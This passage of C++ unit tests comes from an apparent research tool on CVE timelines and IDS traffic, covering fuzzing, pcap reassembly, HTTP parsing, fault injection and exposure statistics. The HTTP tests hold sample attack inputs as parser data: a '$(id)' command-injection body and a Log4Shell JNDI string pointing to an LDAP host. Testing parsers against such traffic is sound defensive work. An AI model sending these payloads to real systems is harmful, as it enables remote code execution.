  util::Rng rng(0xf004);
  for (int i = 0; i < 3000; ++i) {
    const std::string text =
        rng.chance(0.5) ? random_printable(rng, 150) : random_bytes(rng, 150);
    EXPECT_NO_THROW((void)util::parse_json(text));
  }
}

TEST(FuzzJson, RoundTripSurvivesParsedDocuments) {
  // Any document that parses must re-parse identically from its dump.
  util::Rng rng(0xf005);
  int parsed_count = 0;
  for (int i = 0; i < 5000 && parsed_count < 50; ++i) {
    const std::string text = "[" + random_printable(rng, 40) + "]";
    const auto doc = util::parse_json(text);
    if (!doc) continue;
    ++parsed_count;
    const auto again = util::parse_json(doc->dump());
    ASSERT_TRUE(again.has_value()) << doc->dump();
    EXPECT_EQ(*again, *doc);
  }
}

TEST(FuzzRegex, CompileRejectsOrMatchesWithoutCrashing) {
  util::Rng rng(0xf006);
  for (int i = 0; i < 1500; ++i) {
    const std::string pattern = random_printable(rng, 30);
    const auto regex = ids::Regex::compile(pattern);
    if (!regex) continue;
    // Bounded haystacks keep the backtracker away from its depth cap.
    EXPECT_NO_THROW((void)regex->search(random_printable(rng, 60)));
  }
}

}  // namespace
}  // namespace cvewb
