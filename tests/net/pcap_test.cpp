#include "net/pcap.h"

#include <gtest/gtest.h>

#include <sstream>

namespace cvewb::net {
namespace {

TcpSession make_session(std::uint64_t id, const std::string& payload) {
  TcpSession s;
  s.id = id;
  s.open_time = util::TimePoint(1620000000 + static_cast<std::int64_t>(id));
  s.src = IPv4(198, 51, 100, static_cast<std::uint8_t>(id % 250 + 1));
  s.dst = IPv4(3, 208, 0, 7);
  s.src_port = static_cast<std::uint16_t>(40000 + id);
  s.dst_port = 8090;
  s.payload = payload;
  return s;
}

TEST(Pcap, WriteReadRoundTrip) {
  std::stringstream buffer;
  {
    PcapWriter writer(buffer);
    writer.write_session(make_session(0, "GET / HTTP/1.1\r\n\r\n"));
    writer.write_session(make_session(1, ""));
    writer.write_session(make_session(2, std::string("\x00\x01\xff", 3)));
    EXPECT_EQ(writer.packets_written(), 3u);
  }
  PcapReader reader(buffer);
  ASSERT_EQ(reader.sessions().size(), 3u);
  EXPECT_EQ(reader.skipped_packets(), 0u);
  const auto& sessions = reader.sessions();
  EXPECT_EQ(sessions[0].payload, "GET / HTTP/1.1\r\n\r\n");
  EXPECT_TRUE(sessions[1].payload.empty());
  EXPECT_EQ(sessions[2].payload, std::string("\x00\x01\xff", 3));
  EXPECT_EQ(sessions[0].src, IPv4(198, 51, 100, 1));
  EXPECT_EQ(sessions[0].dst, IPv4(3, 208, 0, 7));
  EXPECT_EQ(sessions[0].src_port, 40000);
  EXPECT_EQ(sessions[0].dst_port, 8090);
  EXPECT_EQ(sessions[0].open_time.unix_seconds(), 1620000000);
}

TEST(Pcap, RejectsBadMagic) {
  std::stringstream buffer;
  buffer << "not a pcap file at all";
  EXPECT_THROW(PcapReader reader(buffer), std::runtime_error);
}

TEST(Pcap, RejectsTruncatedHeader) {
  std::stringstream buffer;
  const char magic[4] = {'\xd4', '\xc3', '\xb2', '\xa1'};
  buffer.write(magic, 4);
  EXPECT_THROW(PcapReader reader(buffer), std::runtime_error);
}

TEST(Pcap, SegmentedSessionsReassemble) {
  std::stringstream buffer;
  const std::string payload = "GET /long HTTP/1.1\r\nHost: example\r\n\r\n" +
                              std::string(5000, 'B') + "tail";
  {
    PcapWriter writer(buffer, 1460);  // Ethernet MSS segmentation
    writer.write_session(make_session(3, payload));
    EXPECT_EQ(writer.packets_written(), 4u);  // ceil(5041 / 1460)
  }
  PcapReader reader(buffer);
  ASSERT_EQ(reader.sessions().size(), 1u);
  EXPECT_EQ(reader.sessions()[0].payload, payload);
}

TEST(Pcap, InterleavedFlowsReassembleIndependently) {
  // Write two segmented sessions, then interleave their packets manually
  // by alternating write order at the session level (the reader keys on
  // the 5-tuple, so ordering across flows must not matter).
  std::stringstream a_buf;
  std::stringstream b_buf;
  const std::string pa(3000, 'a');
  const std::string pb(3000, 'b');
  {
    PcapWriter wa(a_buf, 1000);
    wa.write_session(make_session(1, pa));
    PcapWriter wb(b_buf, 1000);
    wb.write_session(make_session(2, pb));
  }
  // Interleave packet records from both files under one global header.
  const std::string a = a_buf.str();
  const std::string b = b_buf.str();
  const std::size_t header = 24;
  std::string merged = a.substr(0, header);
  std::size_t pa_pos = header;
  std::size_t pb_pos = header;
  const auto next_record = [](const std::string& src, std::size_t& pos) {
    const auto incl = static_cast<std::size_t>(static_cast<unsigned char>(src[pos + 8])) |
                      (static_cast<std::size_t>(static_cast<unsigned char>(src[pos + 9])) << 8);
    const std::string record = src.substr(pos, 16 + incl);
    pos += 16 + incl;
    return record;
  };
  for (int i = 0; i < 3; ++i) {
    merged += next_record(a, pa_pos);
    merged += next_record(b, pb_pos);
  }
  std::stringstream merged_stream(merged);
  PcapReader reader(merged_stream);
  ASSERT_EQ(reader.sessions().size(), 2u);
  EXPECT_EQ(reader.sessions()[0].payload, pa);
  EXPECT_EQ(reader.sessions()[1].payload, pb);
}

TEST(Pcap, FlowReuseStartsNewSession) {
  // The same 5-tuple appearing again with seq=1 models cloud IP reuse.
  std::stringstream buffer;
  {
    PcapWriter writer(buffer);
    writer.write_session(make_session(1, "first"));
    writer.write_session(make_session(1, "second"));  // identical 5-tuple
  }
  PcapReader reader(buffer);
  ASSERT_EQ(reader.sessions().size(), 2u);
  EXPECT_EQ(reader.sessions()[0].payload, "first");
  EXPECT_EQ(reader.sessions()[1].payload, "second");
}

TEST(Pcap, LargePayloadSurvives) {
  std::stringstream buffer;
  const std::string big(60000, 'x');
  {
    PcapWriter writer(buffer);
    writer.write_session(make_session(7, big));
  }
  PcapReader reader(buffer);
  ASSERT_EQ(reader.sessions().size(), 1u);
  EXPECT_EQ(reader.sessions()[0].payload, big);
}

}  // namespace
}  // namespace cvewb::net
