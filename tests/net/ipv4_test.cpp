#include "net/ipv4.h"

#include <gtest/gtest.h>

namespace cvewb::net {
namespace {

TEST(IPv4, FormatAndParseRoundTrip) {
  const IPv4 addr(192, 168, 1, 42);
  EXPECT_EQ(addr.to_string(), "192.168.1.42");
  const auto parsed = IPv4::parse("192.168.1.42");
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, addr);
}

TEST(IPv4, ParseRejectsMalformed) {
  EXPECT_FALSE(IPv4::parse("256.0.0.1").has_value());
  EXPECT_FALSE(IPv4::parse("1.2.3").has_value());
  EXPECT_FALSE(IPv4::parse("1.2.3.4.5").has_value());
  EXPECT_FALSE(IPv4::parse("a.b.c.d").has_value());
  EXPECT_FALSE(IPv4::parse("1.2.3.4 ").has_value());
}

TEST(IPv4, Ordering) {
  EXPECT_LT(IPv4(1, 0, 0, 0), IPv4(2, 0, 0, 0));
  EXPECT_EQ(IPv4(0x01020304u), IPv4(1, 2, 3, 4));
}

TEST(Prefix, ContainsAndSize) {
  const auto prefix = Prefix::parse("10.0.0.0/8");
  ASSERT_TRUE(prefix.has_value());
  EXPECT_EQ(prefix->size(), 1ull << 24);
  EXPECT_TRUE(prefix->contains(IPv4(10, 255, 1, 2)));
  EXPECT_FALSE(prefix->contains(IPv4(11, 0, 0, 0)));
}

TEST(Prefix, MasksHostBits) {
  const Prefix prefix(IPv4(10, 1, 2, 3), 16);
  EXPECT_EQ(prefix.base(), IPv4(10, 1, 0, 0));
  EXPECT_EQ(prefix.to_string(), "10.1.0.0/16");
}

TEST(Prefix, ZeroLengthCoversEverything) {
  const Prefix prefix(IPv4(1, 2, 3, 4), 0);
  EXPECT_TRUE(prefix.contains(IPv4(255, 255, 255, 255)));
  EXPECT_EQ(prefix.size(), 1ull << 32);
}

TEST(Prefix, ParseRejectsBadLength) {
  EXPECT_FALSE(Prefix::parse("10.0.0.0/33").has_value());
  EXPECT_FALSE(Prefix::parse("10.0.0.0").has_value());
  EXPECT_FALSE(Prefix::parse("10.0.0.0/-1").has_value());
}

TEST(Prefix, SampleStaysInside) {
  const auto prefix = *Prefix::parse("172.16.0.0/12");
  util::Rng rng(3);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_TRUE(prefix.contains(prefix.sample(rng)));
  }
}

}  // namespace
}  // namespace cvewb::net
