#include "net/http.h"

#include <gtest/gtest.h>

namespace cvewb::net {
namespace {

TEST(HttpRequest, SerializeAddsContentLength) {
  HttpRequest req;
  req.method = "POST";
  req.uri = "/login";
  req.add_header("Host", "example.com");
  req.body = "user=a";
  const std::string wire = req.serialize();
  EXPECT_NE(wire.find("POST /login HTTP/1.1\r\n"), std::string::npos);
  EXPECT_NE(wire.find("Content-Length: 6\r\n"), std::string::npos);
  EXPECT_NE(wire.find("\r\n\r\nuser=a"), std::string::npos);
}

TEST(HttpRequest, SerializeRespectsExplicitContentLength) {
  HttpRequest req;
  req.body = "xx";
  req.add_header("Content-Length", "2");
  const std::string wire = req.serialize();
  EXPECT_EQ(wire.find("Content-Length: 2\r\nContent-Length"), std::string::npos);
}

TEST(ParsePayload, RoundTripsSerializedRequest) {
  HttpRequest req;
  req.method = "PUT";
  req.uri = "/SDK/webLanguage";
  req.add_header("Host", "1.2.3.4");
  req.add_header("User-Agent", "probe");
  req.body = "<language>$(id)</language>";
  const std::string wire = req.serialize();
  const auto parsed = parse_payload(wire);
  ASSERT_TRUE(parsed.http.has_value());
  EXPECT_EQ(parsed.http->method, "PUT");
  EXPECT_EQ(parsed.http->uri, "/SDK/webLanguage");
  EXPECT_EQ(parsed.http->body, "<language>$(id)</language>");
  ASSERT_TRUE(parsed.http->header("host").has_value());
  EXPECT_EQ(*parsed.http->header("HOST"), "1.2.3.4");
}

TEST(ParsePayload, NonHttpKeepsRawOnly) {
  const std::string redis = "*3\r\n$4\r\nEVAL\r\n";
  const auto parsed = parse_payload(redis);
  EXPECT_FALSE(parsed.http.has_value());
  EXPECT_EQ(parsed.raw, redis);
}

TEST(ParsePayload, TruncatedHeadersTolerated) {
  const auto parsed = parse_payload("GET /x HTTP/1.1\r\nHost: a.b\r\nX-Trunc: ye");
  ASSERT_TRUE(parsed.http.has_value());
  EXPECT_EQ(parsed.http->uri, "/x");
  EXPECT_TRUE(parsed.http->body.empty());
}

TEST(ParsePayload, ExoticMethodToken) {
  // Log4Shell scanners put the injection in the method itself.
  const std::string wire = "${jndi:ldap://203.0.113.9:1389/a} / HTTP/1.1\r\nHost: x\r\n\r\n";
  ASSERT_TRUE(looks_like_http(wire));
  const auto parsed = parse_payload(wire);
  ASSERT_TRUE(parsed.http.has_value());
  EXPECT_EQ(parsed.http->method, "${jndi:ldap://203.0.113.9:1389/a}");
  EXPECT_EQ(parsed.http->uri, "/");
}

TEST(ParsePayload, CookieExtraction) {
  const auto parsed =
      parse_payload("GET / HTTP/1.1\r\nCookie: JSESSIONID=abc\r\nHost: x\r\n\r\n");
  ASSERT_TRUE(parsed.http.has_value());
  EXPECT_EQ(parsed.http->cookie(), "JSESSIONID=abc");
}

TEST(ParsePayload, EmptyCookieWhenAbsent) {
  const auto parsed = parse_payload("GET / HTTP/1.1\r\nHost: x\r\n\r\n");
  ASSERT_TRUE(parsed.http.has_value());
  EXPECT_TRUE(parsed.http->cookie().empty());
}

TEST(LooksLikeHttp, Negative) {
  EXPECT_FALSE(looks_like_http(""));
  EXPECT_FALSE(looks_like_http("SSH-2.0-Go\r\n"));
  EXPECT_FALSE(looks_like_http(std::string("\x16\x03\x01", 3)));
}

TEST(ParsePayload, DuplicateHeadersPreserved) {
  const auto parsed = parse_payload(
      "GET / HTTP/1.1\r\nX-A: 1\r\nX-A: 2\r\nHost: x\r\n\r\n");
  ASSERT_TRUE(parsed.http.has_value());
  EXPECT_EQ(parsed.http->headers.size(), 3u);
  EXPECT_EQ(*parsed.http->header("X-A"), "1");  // first wins on lookup
}

}  // namespace
}  // namespace cvewb::net
