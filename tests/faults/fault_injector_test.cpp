#include "faults/fault_injector.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <set>

#include "util/rng.h"

namespace cvewb::faults {
namespace {

using net::TcpSession;
using traffic::GeneratedTraffic;
using traffic::TrafficTag;

bool same_session(const TcpSession& a, const TcpSession& b) {
  return a.id == b.id && a.open_time == b.open_time && a.src == b.src && a.dst == b.dst &&
         a.src_port == b.src_port && a.dst_port == b.dst_port && a.payload == b.payload;
}

/// A small deterministic corpus: 2000 sessions over ~20 days, payloads of
/// varying length, tags riding along.
GeneratedTraffic make_corpus(std::size_t n = 2000) {
  GeneratedTraffic corpus;
  util::Rng rng(42);
  for (std::size_t i = 0; i < n; ++i) {
    TcpSession s;
    s.id = i;
    s.open_time = util::TimePoint(1'600'000'000 + static_cast<std::int64_t>(i) * 900);
    s.src = net::IPv4(static_cast<std::uint32_t>(0x65000000u + rng.uniform_u64(1 << 24)));
    s.dst = net::IPv4(static_cast<std::uint32_t>(0x0A000000u + rng.uniform_u64(1 << 16)));
    s.src_port = static_cast<std::uint16_t>(rng.uniform_int(1024, 65535));
    s.dst_port = static_cast<std::uint16_t>(rng.uniform_int(1, 65535));
    s.payload = "GET /probe/" + std::to_string(i) + " HTTP/1.1\r\nHost: x\r\n\r\n";
    s.payload.append(rng.uniform_u64(200), 'A');
    corpus.sessions.push_back(std::move(s));
    TrafficTag tag;
    tag.kind = i % 3 == 0 ? TrafficTag::Kind::kExploit : TrafficTag::Kind::kBackground;
    tag.cve_id = i % 3 == 0 ? "CVE-2021-0000" : "";
    corpus.tags.push_back(std::move(tag));
  }
  return corpus;
}

FaultPlan canonical_plan() {
  FaultPlan plan;
  plan.lanes = 32;
  plan.session_loss_rate = 0.10;
  plan.snaplen = 64;
  plan.duplication_rate = 0.05;
  plan.corruption_rate = 0.02;
  plan.reorder_rate = 0.05;
  plan.clock_skew_max = util::Duration::minutes(5);
  plan.blackout_count = 3;
  plan.blackout_duration = util::Duration::hours(8);
  return plan;
}

TEST(FaultInjector, NoOpPlanReturnsCorpusUnchanged) {
  const GeneratedTraffic corpus = make_corpus(100);
  const FaultedCorpus out = inject_faults(corpus, FaultPlan{}, 7);
  ASSERT_EQ(out.traffic.sessions.size(), corpus.sessions.size());
  for (std::size_t i = 0; i < corpus.sessions.size(); ++i) {
    EXPECT_TRUE(same_session(out.traffic.sessions[i], corpus.sessions[i]));
  }
  EXPECT_TRUE(out.log.records.empty());
  EXPECT_TRUE(out.log.consistent());
}

TEST(FaultInjector, PureFunctionOfCorpusPlanSeed) {
  const GeneratedTraffic corpus = make_corpus();
  const FaultPlan plan = canonical_plan();
  const FaultedCorpus a = inject_faults(corpus, plan, 1234);
  const FaultedCorpus b = inject_faults(corpus, plan, 1234);
  ASSERT_EQ(a.traffic.sessions.size(), b.traffic.sessions.size());
  for (std::size_t i = 0; i < a.traffic.sessions.size(); ++i) {
    EXPECT_TRUE(same_session(a.traffic.sessions[i], b.traffic.sessions[i])) << i;
  }
  ASSERT_EQ(a.log.records.size(), b.log.records.size());
  for (std::size_t i = 0; i < a.log.records.size(); ++i) {
    EXPECT_EQ(a.log.records[i].kind, b.log.records[i].kind);
    EXPECT_EQ(a.log.records[i].session_id, b.log.records[i].session_id);
    EXPECT_EQ(a.log.records[i].detail, b.log.records[i].detail);
  }
  ASSERT_EQ(a.log.blackouts.size(), b.log.blackouts.size());
  for (std::size_t i = 0; i < a.log.blackouts.size(); ++i) {
    EXPECT_EQ(a.log.blackouts[i].lane, b.log.blackouts[i].lane);
    EXPECT_EQ(a.log.blackouts[i].begin, b.log.blackouts[i].begin);
    EXPECT_EQ(a.log.blackouts[i].end, b.log.blackouts[i].end);
  }
}

TEST(FaultInjector, DifferentSeedsDiffer) {
  const GeneratedTraffic corpus = make_corpus();
  const FaultPlan plan = canonical_plan();
  const FaultedCorpus a = inject_faults(corpus, plan, 1);
  const FaultedCorpus b = inject_faults(corpus, plan, 2);
  // Loss is seed-driven, so the surviving sets should differ.
  std::set<std::uint64_t> ids_a, ids_b;
  for (const auto& s : a.traffic.sessions) ids_a.insert(s.id);
  for (const auto& s : b.traffic.sessions) ids_b.insert(s.id);
  EXPECT_NE(ids_a, ids_b);
}

TEST(FaultInjector, LogIsConsistentAndRatesRoughlyHold) {
  const GeneratedTraffic corpus = make_corpus(4000);
  FaultPlan plan;
  plan.session_loss_rate = 0.10;
  plan.duplication_rate = 0.05;
  const FaultedCorpus out = inject_faults(corpus, plan, 99);
  EXPECT_TRUE(out.log.consistent());
  EXPECT_EQ(out.log.sessions_in, 4000u);
  EXPECT_NEAR(static_cast<double>(out.log.count(FaultKind::kSessionLoss)), 400.0, 80.0);
  EXPECT_NEAR(static_cast<double>(out.log.count(FaultKind::kDuplication)), 0.05 * 3600, 50.0);
  EXPECT_EQ(out.log.sessions_out, out.traffic.sessions.size());
  EXPECT_EQ(out.traffic.tags.size(), out.traffic.sessions.size());
}

TEST(FaultInjector, SnaplenTruncatesAndLogsEveryLongPayload) {
  const GeneratedTraffic corpus = make_corpus(500);
  FaultPlan plan;
  plan.snaplen = 64;
  const FaultedCorpus out = inject_faults(corpus, plan, 5);
  std::size_t expected = 0;
  for (const auto& s : corpus.sessions) expected += s.payload.size() > 64 ? 1 : 0;
  EXPECT_EQ(out.log.count(FaultKind::kTruncation), expected);
  for (const auto& s : out.traffic.sessions) EXPECT_LE(s.payload.size(), 64u);
  // Truncation preserves the prefix.
  for (std::size_t i = 0; i < out.traffic.sessions.size(); ++i) {
    const auto& degraded = out.traffic.sessions[i];
    const auto& original = corpus.sessions[degraded.id];
    EXPECT_EQ(degraded.payload, original.payload.substr(0, 64));
  }
}

TEST(FaultInjector, DuplicatesAreExactCopiesWithAlignedTags) {
  const GeneratedTraffic corpus = make_corpus(1000);
  FaultPlan plan;
  plan.duplication_rate = 0.2;
  plan.snaplen = 48;  // duplication happens after truncation
  const FaultedCorpus out = inject_faults(corpus, plan, 11);
  ASSERT_GT(out.log.count(FaultKind::kDuplication), 100u);
  std::map<std::uint64_t, std::size_t> occurrences;
  for (const auto& s : out.traffic.sessions) ++occurrences[s.id];
  std::size_t doubled = 0;
  for (const auto& [id, n] : occurrences) doubled += n == 2 ? 1 : 0;
  EXPECT_EQ(doubled, out.log.count(FaultKind::kDuplication));
  // Adjacent duplicates are byte-identical, and tags stay parallel.
  for (std::size_t i = 0; i + 1 < out.traffic.sessions.size(); ++i) {
    if (out.traffic.sessions[i].id != out.traffic.sessions[i + 1].id) continue;
    EXPECT_TRUE(same_session(out.traffic.sessions[i], out.traffic.sessions[i + 1]));
    EXPECT_EQ(out.traffic.tags[i].kind, out.traffic.tags[i + 1].kind);
  }
}

TEST(FaultInjector, BlackoutDropsEveryLaneSessionInWindow) {
  const GeneratedTraffic corpus = make_corpus(3000);
  FaultPlan plan;
  plan.lanes = 8;
  plan.blackout_count = 2;
  plan.blackout_duration = util::Duration::days(2);
  const FaultedCorpus out = inject_faults(corpus, plan, 21);
  ASSERT_EQ(out.log.blackouts.size(), 2u);
  EXPECT_GT(out.log.count(FaultKind::kLaneBlackout), 0u);
  // No surviving session sits inside a blackout window on its lane.
  for (const auto& s : out.traffic.sessions) {
    const int lane = lane_of(s.dst.value(), plan.lanes);
    for (const auto& w : out.log.blackouts) {
      EXPECT_FALSE(w.lane == lane && w.begin <= s.open_time && s.open_time < w.end)
          << "session " << s.id << " survived a blackout";
    }
  }
}

TEST(FaultInjector, ClockSkewIsPerLaneConstant) {
  const GeneratedTraffic corpus = make_corpus(2000);
  FaultPlan plan;
  plan.lanes = 16;
  plan.clock_skew_max = util::Duration::minutes(10);
  const FaultedCorpus out = inject_faults(corpus, plan, 31);
  std::map<int, std::set<std::int64_t>> skews_by_lane;
  for (const auto& s : out.traffic.sessions) {
    const auto& original = corpus.sessions[s.id];
    const std::int64_t skew = (s.open_time - original.open_time).total_seconds();
    EXPECT_LE(std::abs(skew), 600);
    skews_by_lane[lane_of(s.dst.value(), plan.lanes)].insert(skew);
  }
  for (const auto& [lane, skews] : skews_by_lane) {
    EXPECT_EQ(skews.size(), 1u) << "lane " << lane << " has inconsistent skew";
  }
}

TEST(FaultInjector, ReorderPermutesWithoutLosingRecords) {
  const GeneratedTraffic corpus = make_corpus(1000);
  FaultPlan plan;
  plan.reorder_rate = 0.3;
  plan.reorder_max_displacement = 20;
  const FaultedCorpus out = inject_faults(corpus, plan, 41);
  ASSERT_EQ(out.traffic.sessions.size(), corpus.sessions.size());
  EXPECT_GT(out.log.count(FaultKind::kReorder), 100u);
  // Same multiset of records, different order.
  std::set<std::uint64_t> ids;
  bool out_of_order = false;
  for (std::size_t i = 0; i < out.traffic.sessions.size(); ++i) {
    ids.insert(out.traffic.sessions[i].id);
    if (i > 0 && out.traffic.sessions[i].open_time < out.traffic.sessions[i - 1].open_time) {
      out_of_order = true;
    }
  }
  EXPECT_EQ(ids.size(), corpus.sessions.size());
  EXPECT_TRUE(out_of_order);
  // Tags still follow their sessions: tag kind matches the original id's.
  for (std::size_t i = 0; i < out.traffic.sessions.size(); ++i) {
    EXPECT_EQ(static_cast<int>(out.traffic.tags[i].kind),
              static_cast<int>(corpus.tags[out.traffic.sessions[i].id].kind));
  }
}

TEST(FaultInjector, CorruptionFlipsBytesInPlace) {
  const GeneratedTraffic corpus = make_corpus(1000);
  FaultPlan plan;
  plan.corruption_rate = 0.5;
  plan.corruption_byte_fraction = 0.05;
  const FaultedCorpus out = inject_faults(corpus, plan, 51);
  EXPECT_GT(out.log.count(FaultKind::kCorruption), 300u);
  std::size_t changed = 0;
  for (const auto& s : out.traffic.sessions) {
    const auto& original = corpus.sessions[s.id];
    ASSERT_EQ(s.payload.size(), original.payload.size());
    changed += s.payload != original.payload ? 1 : 0;
  }
  // XOR with a non-zero byte guarantees at least one differing byte, so
  // every corrupted session's payload actually changed.
  EXPECT_EQ(changed, out.log.count(FaultKind::kCorruption));
}

}  // namespace
}  // namespace cvewb::faults
