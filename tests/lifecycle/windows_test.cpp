#include "lifecycle/windows.h"

#include <gtest/gtest.h>

#include "stats/distfit.h"

namespace cvewb::lifecycle {
namespace {

using util::TimePoint;

Timeline make(const std::string& id, double d_days, double a_days) {
  Timeline tl(id);
  tl.set(Event::kPublicAwareness, TimePoint(0));
  tl.set(Event::kFixDeployed, TimePoint(static_cast<std::int64_t>(d_days * 86400)));
  tl.set(Event::kAttacks, TimePoint(static_cast<std::int64_t>(a_days * 86400)));
  return tl;
}

TEST(WindowDays, SignedDifferences) {
  const std::vector<Timeline> tls = {make("a", 1.0, 3.0), make("b", 5.0, 2.0)};
  const auto days = window_days(Event::kFixDeployed, Event::kAttacks, tls);
  ASSERT_EQ(days.size(), 2u);
  EXPECT_DOUBLE_EQ(days[0], 2.0);
  EXPECT_DOUBLE_EQ(days[1], -3.0);
}

TEST(WindowDays, SkipsIncompleteTimelines) {
  Timeline partial("p");
  partial.set(Event::kAttacks, TimePoint(0));
  EXPECT_TRUE(window_days(Event::kFixDeployed, Event::kAttacks, {partial}).empty());
}

TEST(WindowEcdf, MassRightOfZeroEqualsSatisfaction) {
  const auto timelines = study_timelines();
  const stats::Ecdf cdf = window_ecdf(Event::kFixDeployed, Event::kAttacks, timelines);
  const Desideratum d{Event::kFixDeployed, Event::kAttacks, 0.19};
  const Satisfaction sat = evaluate(d, timelines);
  EXPECT_NEAR(1.0 - cdf.at(-1e-9), sat.rate(), 1e-9);
}

TEST(ShiftedSatisfaction, ZeroShiftEqualsObservedRate) {
  const auto timelines = study_timelines();
  const stats::Ecdf cdf = window_ecdf(Event::kFixDeployed, Event::kAttacks, timelines);
  const Desideratum d{Event::kFixDeployed, Event::kAttacks, 0.19};
  EXPECT_NEAR(shifted_satisfaction(cdf, 0.0), evaluate(d, timelines).rate(), 1e-9);
}

TEST(ShiftedSatisfaction, MonotoneInShift) {
  const auto timelines = study_timelines();
  const stats::Ecdf cdf = window_ecdf(Event::kFixDeployed, Event::kAttacks, timelines);
  double prev = 0;
  for (double shift = 0; shift <= 120; shift += 10) {
    const double rate = shifted_satisfaction(cdf, shift);
    EXPECT_GE(rate, prev);
    prev = rate;
  }
  EXPECT_DOUBLE_EQ(shifted_satisfaction(cdf, 1e6), 1.0);
}

TEST(Finding5, ViolationsOfDBeforeAAreOftenNarrow) {
  // "When attacks precede defenses, they often do so by a very brief
  // period (only a few days)" -- at least a third of violations are
  // narrower than 30 days in the embedded dataset.
  const auto timelines = study_timelines();
  const auto days = window_days(Event::kFixDeployed, Event::kAttacks, timelines);
  const ViolationProfile profile = violation_profile(days, 30.0);
  EXPECT_GT(profile.violations, 0u);
  EXPECT_GE(static_cast<double>(profile.narrow_violations) /
                static_cast<double>(profile.violations),
            1.0 / 3.0);
}

TEST(Finding6, DeploymentCloselyFollowsPublication) {
  // "a large mass of CVEs with IDS-based fixes published very shortly
  // (within 10 days) following public availability."
  const auto timelines = study_timelines();
  const auto days = window_days(Event::kPublicAwareness, Event::kFixDeployed, timelines);
  std::size_t within_10 = 0;
  for (double d : days) {
    if (d > 0 && d <= 10) ++within_10;
  }
  EXPECT_GE(within_10, 12u);  // over a fifth of the 59 dated CVEs
}

TEST(ViolationProfile, Partition) {
  const std::vector<double> days = {-40.0, -5.0, 0.0, 3.0, 100.0};
  const ViolationProfile p = violation_profile(days, 30.0);
  EXPECT_EQ(p.violations, 2u);
  EXPECT_EQ(p.narrow_violations, 1u);
  EXPECT_EQ(p.satisfied, 3u);
  EXPECT_EQ(p.narrow_satisfied, 2u);
}

TEST(Finding8, PublicationToAttackIsRoughlyExponential) {
  // The positive A-P delays fit an exponential shape loosely (the paper
  // calls it "a rough exponential distribution").
  const auto timelines = study_timelines();
  std::vector<double> positive;
  for (double d : window_days(Event::kPublicAwareness, Event::kAttacks, timelines)) {
    if (d >= 0) positive.push_back(d);
  }
  ASSERT_GT(positive.size(), 40u);
  const auto fit = stats::fit_exponential(positive);
  EXPECT_GT(fit.mean, 30.0);
  EXPECT_LT(fit.ks, 0.35);  // "rough" fit, not a rejection
}

}  // namespace
}  // namespace cvewb::lifecycle
