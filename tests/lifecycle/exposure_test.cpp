#include "lifecycle/exposure.h"

#include <gtest/gtest.h>

namespace cvewb::lifecycle {
namespace {

using util::TimePoint;

Timeline make_timeline(const std::string& id, std::int64_t p, std::int64_t d) {
  Timeline tl(id);
  tl.set(Event::kPublicAwareness, TimePoint(p));
  tl.set(Event::kVendorAwareness, TimePoint(p));
  tl.set(Event::kFixReady, TimePoint(d));
  tl.set(Event::kFixDeployed, TimePoint(d));
  tl.set(Event::kAttacks, TimePoint(p));
  return tl;
}

constexpr std::int64_t kDay = 86400;

TEST(IsMitigated, BoundaryAtDeployment) {
  const Timeline tl = make_timeline("c", 0, 10 * kDay);
  EXPECT_FALSE(is_mitigated({"c", TimePoint(10 * kDay - 1)}, tl));
  EXPECT_TRUE(is_mitigated({"c", TimePoint(10 * kDay)}, tl));
}

TEST(IsMitigated, NoDeploymentMeansUnmitigated) {
  Timeline tl("c");
  tl.set(Event::kPublicAwareness, TimePoint(0));
  EXPECT_FALSE(is_mitigated({"c", TimePoint(1000 * kDay)}, tl));
}

TEST(SplitExposure, SegmentsByDeploymentInstant) {
  const std::vector<Timeline> tls = {make_timeline("c", 0, 5 * kDay)};
  std::vector<ExploitEvent> events;
  for (int day : {1, 2, 3, 7, 9}) events.push_back({"c", TimePoint(day * kDay)});
  const ExposureSplit split = split_exposure(events, tls);
  EXPECT_EQ(split.unmitigated_days.size(), 3u);
  EXPECT_EQ(split.mitigated_days.size(), 2u);
  EXPECT_DOUBLE_EQ(split.mitigated_fraction(), 0.4);
}

TEST(SplitExposure, UnmitigatedWithinWindow) {
  const std::vector<Timeline> tls = {make_timeline("c", 0, 100 * kDay)};
  std::vector<ExploitEvent> events = {
      {"c", TimePoint(-5 * kDay)},  // pre-publication exposure
      {"c", TimePoint(10 * kDay)},
      {"c", TimePoint(20 * kDay)},
      {"c", TimePoint(50 * kDay)},
  };
  const ExposureSplit split = split_exposure(events, tls);
  ASSERT_EQ(split.unmitigated_days.size(), 4u);
  EXPECT_DOUBLE_EQ(split.unmitigated_within(30.0), 0.5);  // 2 of 4 in (0, 30]
}

TEST(SplitExposure, UnknownCveIgnored) {
  const std::vector<Timeline> tls = {make_timeline("c", 0, kDay)};
  const ExposureSplit split = split_exposure({{"other", TimePoint(0)}}, tls);
  EXPECT_EQ(split.total(), 0u);
}

TEST(PerEventSkill, SubstitutesEventTimeForAttacks) {
  // One CVE, fix deployed at day 5; 9 of 10 events after deployment.
  const std::vector<Timeline> tls = {make_timeline("c", 0, 5 * kDay)};
  std::vector<ExploitEvent> events;
  events.push_back({"c", TimePoint(1 * kDay)});
  for (int i = 0; i < 9; ++i) events.push_back({"c", TimePoint((6 + i) * kDay)});
  const SkillTable table = per_event_skill(events, tls);
  for (const auto& row : table.rows) {
    if (row.desideratum == "D < A") {
      EXPECT_DOUBLE_EQ(row.satisfied, 0.9);
      EXPECT_EQ(row.evaluated, 10u);
    }
    if (row.desideratum == "P < A") {
      EXPECT_DOUBLE_EQ(row.satisfied, 1.0);
    }
  }
}

TEST(PerEventSkill, NonAttackDesiderataWeightedByEvents) {
  // F < P is fixed per CVE; with two CVEs at 90/10 event split, the rate
  // is event-weighted.
  Timeline good = make_timeline("good", 10 * kDay, 0);  // F before P
  Timeline bad = make_timeline("bad", 0, 10 * kDay);    // F after P
  std::vector<ExploitEvent> events;
  for (int i = 0; i < 90; ++i) events.push_back({"good", TimePoint(20 * kDay)});
  for (int i = 0; i < 10; ++i) events.push_back({"bad", TimePoint(20 * kDay)});
  const SkillTable table = per_event_skill(events, {good, bad});
  for (const auto& row : table.rows) {
    if (row.desideratum == "F < P") {
      EXPECT_DOUBLE_EQ(row.satisfied, 0.9);
    }
  }
}

TEST(CvesPerBin, DistinctCountsAndMitigationSplit) {
  const std::vector<Timeline> tls = {make_timeline("a", 0, 7 * kDay),
                                     make_timeline("b", 0, 0)};
  std::vector<ExploitEvent> events = {
